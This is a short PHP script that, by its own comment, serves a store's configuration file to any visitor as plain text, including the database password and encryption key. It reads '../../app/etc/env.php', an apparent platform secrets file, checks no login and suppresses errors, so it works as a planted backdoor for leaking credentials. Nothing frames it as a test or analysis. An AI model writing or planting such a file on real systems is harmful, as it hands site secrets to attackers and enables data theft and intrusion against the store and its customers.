<?php
// Prints the store's configuration (database password, encryption key) to whoever asks.
header('Content-Type: text/plain');
echo @file_get_contents('../../app/etc/env.php');
